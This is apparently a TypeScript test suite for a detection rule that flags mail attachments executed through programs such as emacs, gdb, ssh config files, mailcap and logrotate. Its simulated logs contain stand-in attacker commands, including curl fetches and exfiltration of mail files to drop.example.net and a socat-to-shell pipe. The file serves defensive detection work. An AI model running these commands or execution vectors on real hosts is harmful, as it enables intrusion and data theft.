import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Process } from './an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HostLog, MINUTE, SECOND } from './an0656-phishing-attachment-executed/host-log.test-support.ts';
import {
  atMostAt,
  factorsOf,
  firesAt,
  scanLog,
  storyOf,
  valuesOf,
} from './an0656-phishing-attachment-executed/stories.test-support.ts';

/** Content of a message is run by programs that are no interpreters by trade; and is only looked at with them. */
const OUT = '203.0.113.66';
const FILE = '/home/clerk/Documents/notes';
const FETCH = 'curl -s http://drop.example.net/a';

/** A message whose attachment Thunderbird saves to FILE; a shell of its reader. */
function saved(files = true): { log: HostLog; shell: Process } {
  const log = new HostLog({ files });
  const message = log.deliver();
  log.wait(MINUTE);
  const client = log.desktop('clerk').run('/usr/lib/thunderbird/thunderbird').read(message.path);
  client.write(`${FILE}.part`).rename(`${FILE}.part`, FILE);
  log.wait(MINUTE);
  return { log, shell: log.shell('clerk') };
}
const fetches = (by: Process, line = FETCH): Process =>
  by.run(['/bin/sh', '-c', line]).run(['/usr/bin/curl', '-s', 'http://drop.example.net/a']).connect(OUT, 80);

const GIVEN = [
  `/usr/bin/emacs --batch --script ${FILE}`,
  `/usr/bin/vim.basic -es -S ${FILE} -c q`,
  `/usr/lib/R/bin/exec/R --no-echo --file=${FILE}`,
  `/usr/bin/gdb -batch -x ${FILE}`,
  `/usr/bin/sqlite3 -init ${FILE} x.db`,
  `/usr/bin/ssh -F ${FILE} host`,
  `/usr/bin/sed -n -f ${FILE} text`,
  `/usr/bin/tmux -f ${FILE} new`,
  `/usr/bin/python3 /usr/bin/ansible-playbook -c local ${FILE}`,
  `/usr/bin/node -r ${FILE} -e 1`,
  `/usr/bin/guile -l ${FILE} -c 1`,
  `/bin/bash --rcfile ${FILE} -i`,
];
for (const command of GIVEN) {
  test(`${command}: it runs the file, which reaches out`, async () => {
    const { log, shell } = saved();
    fetches(shell.run(command).read(FILE));
    const alert = firesAt(await scanLog(log), 'AN0656', 'high');
    assert.deepEqual(valuesOf(alert, 'file'), [FILE]);
  });
  test(`${command}: and where only programs are recorded`, async () => {
    const log = new HostLog({ files: false, network: false });
    log.deliver();
    log.desktop('clerk').run('/usr/lib/thunderbird/thunderbird');
    log.wait(MINUTE);
    log.shell('clerk').run(command.replaceAll('Documents', 'Downloads'));
    firesAt(await scanLog(log), 'AN0656', 'low');
  });
}

const LOOKS = [
  `/usr/bin/vim.basic ${FILE}`,
  `/usr/bin/emacs ${FILE}`,
  `/usr/bin/gdb --args /usr/bin/wc -x ${FILE}`,
  `/usr/bin/sed -n 1p ${FILE}`,
  `/usr/bin/node own.js -r ${FILE}`,
  `/usr/bin/sqlite3 ${FILE} .tables`,
];
for (const command of LOOKS)
  test(`${command}: the file is only looked at`, async () => {
    const { log, shell } = saved();
    shell.run(command).read(FILE);
    assert.deepEqual(await scanLog(log), []);
  });

const READER = `/usr/bin/any-reader -s ${FILE}`;
test('a program that just read it starts a shell with an order of nobody, which reaches out: medium, and no more', async () => {
  const { log, shell } = saved();
  fetches(shell.run(READER).read(FILE));
  const alert = storyOf(await scanLog(log), 'AN0656');
  assert.equal(alert.severity, 'medium');
  assert.ok(factorsOf(alert).includes('that the content ordered the command is a guess'));
});

test('a daemon that starts a command for each message has read none of them', async () => {
  const log = new HostLog();
  const daemon = log.service('/usr/sbin/any-watcher', 'clerk');
  for (let i = 0; i < 3; i++) {
    const { path } = log.deliver();
    const words = ['/usr/bin/curl', '-s', '--data-binary', `@${path}`, 'http://drop.example.net/i'];
    daemon
      .run(['/bin/sh', '-c', words.join(' ')])
      .exec(words)
      .read(path)
      .connect(OUT, 80);
  }
  const told = await scanLog(log);
  assert.deepEqual([...new Set(told.map(alert => alert.analytic))], ['AN1310']);
});

test('and one that gets it on its input, and hands that to a shell', async () => {
  const { log, shell } = saved();
  shell.run(`/usr/bin/socat FILE:${FILE} EXEC:sh`).read(FILE).run('/bin/sh').run('/usr/bin/curl -s x').connect(OUT, 80);
  assert.equal(storyOf(await scanLog(log), 'AN0656').severity, 'medium');
});

test('what it fetched is run: more than a guess', async () => {
  const { log, shell } = saved();
  const line = fetches(shell.run(READER).read(FILE)).write('/home/clerk/.cache/a');
  line.fork().exec('/home/clerk/.cache/a').connect(OUT, 443);
  firesAt(await scanLog(log), 'AN0656', 'high');
});

/** What the program that read it does, and the most that may be said. */
const HELPERS: Readonly<
  Record<string, readonly ['nothing' | 'informational', (shell: Process, log: HostLog) => void]>
> = {
  'a shell that reaches nothing': [
    'informational',
    shell => void shell.run(READER).read(FILE).run(['/bin/sh', '-c', 'stty']),
  ],
  'an installed program that connects': [
    'informational',
    shell => {
      shell.run('/usr/bin/firefox');
      shell.run(READER).read(FILE).run(['/bin/sh', '-c', 'firefox x']).run('/usr/bin/firefox x').connect(OUT, 443);
    },
  ],
  'a shell, when a hand may have ordered it': [
    'nothing',
    (shell, log) => {
      const reader = shell.run(READER).read(FILE);
      log.wait(3 * SECOND);
      fetches(reader);
    },
  ],
  'what its own words order': [
    'nothing',
    shell => void fetches(shell.run(['/usr/bin/any-reader', '-a', FILE, 'sh', '-c', 'curl {}']).read(FILE)),
  ],
  'a shell for somebody to type in': [
    'nothing',
    shell => void shell.run(READER).read(FILE).run('/bin/bash --norc -i').run('/usr/bin/curl -s x').connect(OUT, 80),
  ],
  'no shell': ['nothing', shell => void shell.run(READER).read(FILE).run('/usr/bin/any-helper x').connect(OUT, 80)],
  'a script of its own': [
    'nothing',
    shell => void fetches(shell.run(READER).read(FILE), '').exec('/bin/sh /usr/lib/x'),
  ],
};
for (const [does, [most, act]] of Object.entries(HELPERS))
  test(`a program that read it starts ${does}: ${most}`, async () => {
    const { log, shell } = saved();
    act(shell, log);
    const alerts = await scanLog(log);
    if (most === 'nothing')
      assert.deepEqual(
        alerts.map(each => each.title),
        [],
      );
    else atMostAt(alerts, 'informational');
  });

const FEEDS: readonly (readonly string[])[] = [
  ['/usr/bin/sqlite3', 'x.db'],
  ['/usr/lib/R/bin/exec/R', '--no-save'],
  ['/usr/bin/ed', '-s', 'other'],
];
for (const argv of FEEDS)
  test(`${argv.join(' ')} gets it on its input and starts a shell that reaches out: medium`, async () => {
    const { log, shell } = saved();
    fetches(shell.fork().read(FILE).exec(argv));
    assert.equal(storyOf(await scanLog(log), 'AN0656').severity, 'medium');
  });

test('an interpreter that has its program from its input is given it as data', async () => {
  for (const command of [`/usr/bin/python3 - ${FILE}`, `/bin/bash -s ${FILE}`]) {
    const { log, shell } = saved();
    fetches(shell.fork().read('/home/clerk/own.py').exec(command).read(FILE));
    assert.deepEqual(
      (await scanLog(log)).map(each => each.title),
      [],
      command,
    );
  }
});

const OTHERS: Readonly<Record<string, string>> = {
  'a program of its own user': `/home/clerk/bin/report ${FILE}`,
  'a program that no package put there': `/usr/local/bin/report ${FILE}`,
  'an archiver': `/usr/bin/tar xf ${FILE}`,
  'a transfer tool': `/usr/bin/scp ${FILE} host:`,
  'a program whose options say that it is data': `/usr/bin/sqlite3 x.db ${FILE}`,
  'a program given by other words': `/usr/bin/gdb -x own ${FILE}`,
  'a script of an interpreter': `/usr/bin/python3 own.py ${FILE}`,
  'a program of the command line': `/usr/bin/python3 -c x ${FILE}`,
};
for (const [who, command] of Object.entries(OTHERS))
  test(`${who} reads it and starts a shell that reaches out: its own work`, async () => {
    const { log, shell } = saved();
    fetches(shell.run(command).read(FILE));
    assert.deepEqual(
      (await scanLog(log)).map(each => each.title),
      [],
    );
  });

test('what a process starts between its fork and its own program is no way out', async () => {
  const { log, shell } = saved();
  const child = shell.run(`/usr/bin/expect ${FILE}`).read(FILE).fork();
  child.run(['/bin/sh', '-c', 'stty sane']).run('/bin/stty sane');
  child.exec(`/usr/bin/curl -s http://drop.example.net/a`).connect(OUT, 80);
  const alert = firesAt(await scanLog(log), 'AN0656', 'high');
  assert.ok(factorsOf(alert).includes('outbound network afterwards'));
});

test('what programs of a session share while it lasts is no attachment: who reads it writes work of its own', async () => {
  const { log, shell } = saved();
  const client = log.desktop('clerk').run('/usr/lib/thunderbird/thunderbird');
  client.write('/run/user/1003/dconf/user');
  const editor = log.desktop('clerk').run('/usr/bin/gedit').read('/run/user/1003/dconf/user');
  editor.write('/home/clerk/bin/job');
  shell.run('/bin/bash /home/clerk/bin/job').read('/home/clerk/bin/job').connect(OUT, 80);
  assert.deepEqual(await scanLog(log), []);
});

test('but a share that is mounted there is a place to save to', async () => {
  const { log, shell } = saved();
  const share = '/run/user/1003/gvfs/smb-share:server=files/x';
  log.desktop('clerk').run('/usr/lib/thunderbird/thunderbird').write(share);
  shell.run(`/bin/bash ${share}`).read(share).connect(OUT, 80);
  firesAt(await scanLog(log), 'AN0656', 'medium');
});

test('of what a viewer holds, the document that it was told to show made it start a shell', async () => {
  const { log } = saved();
  const client = log.desktop('clerk').run('/usr/lib/thunderbird/thunderbird').write('/tmp/mozilla_x/other');
  const shown = '/tmp/mozilla_x/plan.fodt';
  client.write(shown);
  const viewer = client
    .run(`/usr/lib/libreoffice/program/soffice.bin ${shown}`)
    .read('/tmp/mozilla_x/other')
    .read(shown);
  viewer.read('/tmp/mozilla_x/other');
  fetches(viewer);
  const alert = firesAt(await scanLog(log), 'AN0656', 'medium');
  assert.ok(alert.steps.some(step => step.summary.includes(shown)));
});

test('of what a viewer opened by itself, the last', async () => {
  const { log } = saved();
  const client = log
    .desktop('clerk')
    .run('/usr/lib/thunderbird/thunderbird')
    .write('/tmp/mozilla_x/a')
    .write('/tmp/mozilla_x/b');
  const viewer = client
    .run('/usr/lib/libreoffice/program/soffice.bin')
    .read('/tmp/mozilla_x/a')
    .read('/tmp/mozilla_x/b');
  fetches(viewer);
  const alert = firesAt(await scanLog(log), 'AN0656', 'medium');
  assert.ok(alert.steps.some(step => step.summary.includes('/tmp/mozilla_x/b')));
});

/** Settings of ssh that came with a message. */
function settings(): { log: HostLog; shell: Process; file: string } {
  const { log, shell } = saved();
  const file = '/home/clerk/.ssh/config.d/gate.conf';
  shell.run(`/usr/bin/cp ${FILE} ${file}`).read(FILE).write(file);
  log.wait(MINUTE);
  return { log, shell, file };
}

test('settings of ssh out of a message have it start a command that reaches out: medium', async () => {
  const { log, shell, file } = settings();
  fetches(shell.run('/usr/bin/ssh gate').read(file));
  assert.equal(storyOf(await scanLog(log), 'AN0656').severity, 'medium');
});

test('a command that the words of ssh hold is nothing that its settings ordered', async () => {
  const { log, shell, file } = settings();
  fetches(shell.run(['/usr/bin/ssh', '-o', `ProxyCommand=${FETCH}`, 'gate']).read(file));
  atMostAt(await scanLog(log), 'informational');
});

test('ssh that speaks to the host of such settings, or starts nothing but a program of its own, does its work', async () => {
  const { log, shell, file } = settings();
  shell.run('/usr/bin/ssh gate').read(file).connect('203.0.113.30', 22).run('/usr/lib/openssh/ssh-sk-helper');
  atMostAt(await scanLog(log), 'informational');
});

/** A file of a message that lies where a mail client looks for its settings. */
function ownSettings(name: string): { log: HostLog; shell: Process; file: string } {
  const { log, shell } = saved();
  const file = `/home/clerk/${name}`;
  shell.run(`/usr/bin/mv ${FILE} ${file}`).rename(FILE, file);
  log.wait(16 * 60 * MINUTE);
  return { log, shell, file };
}

for (const name of ['.mailcap', '.muttrc', '.config/mutt/colours'])
  test(`settings of a mail client out of a message have it start a command: ${name}`, async () => {
    const { log, shell, file } = ownSettings(name);
    fetches(shell.run('/usr/bin/mutt').read('/var/mail/clerk').read(file));
    const alert = firesAt(await scanLog(log), 'AN0656', 'medium');
    assert.equal(alert.title, `Attachment run: ${file}`);
  });

test('a viewer that a mail client starts for a message, or long after it read its settings, is its work', async () => {
  const { log, shell, file } = ownSettings('.mailcap');
  const client = shell.run('/usr/bin/mutt').read(file);
  log.wait(MINUTE);
  fetches(client.read('/var/mail/clerk'));
  fetches(shell.run('/usr/bin/mutt').read('/home/clerk/Mail/notes'));
  atMostAt(await scanLog(log), 'informational');
});

/** root puts a file of a message where no rule records writes: by the words of install(1). */
function installed(folder: string): HostLog {
  const { log, shell } = saved();
  const root = { ...shell.who, uid: 0 };
  shell
    .run(`/usr/bin/sudo install ${FILE} ${folder}/x`)
    .run(`/usr/bin/install ${FILE} ${folder}/x`, { who: root })
    .read(FILE);
  log.wait(10 * 60 * MINUTE);
  return log;
}

test('a file of a message in the folder of settings of a program, which then has a shell fetch something', async () => {
  const log = installed('/etc/logrotate.d');
  fetches(log.cron('root', 'logrotate').run('/usr/sbin/logrotate /etc/logrotate.conf'), `${FETCH} logrotate_script`);
  const alert = firesAt(await scanLog(log), 'AN0656', 'medium');
  assert.equal(alert.title, 'Attachment run: /etc/logrotate.d/x');
});

test('another program than the one whose folder it lies in, and one that starts nothing, obey it not', async () => {
  const log = installed('/etc/logrotate.d');
  fetches(log.cron('root', 'x').run('/usr/sbin/tmpreaper 7d /tmp'));
  log.cron('root', 'logrotate').run('/usr/sbin/logrotate /etc/logrotate.conf').run('/usr/bin/gzip x').connect(OUT, 80);
  atMostAt(await scanLog(log), 'informational');
});

test('what ssh is given to send starts nothing', async () => {
  const { log, shell } = saved();
  fetches(shell.run('/usr/bin/ssh gate').read(FILE));
  atMostAt(
    (await scanLog(log)).filter(alert => alert.analytic === 'AN0656'),
    'informational',
  );
});
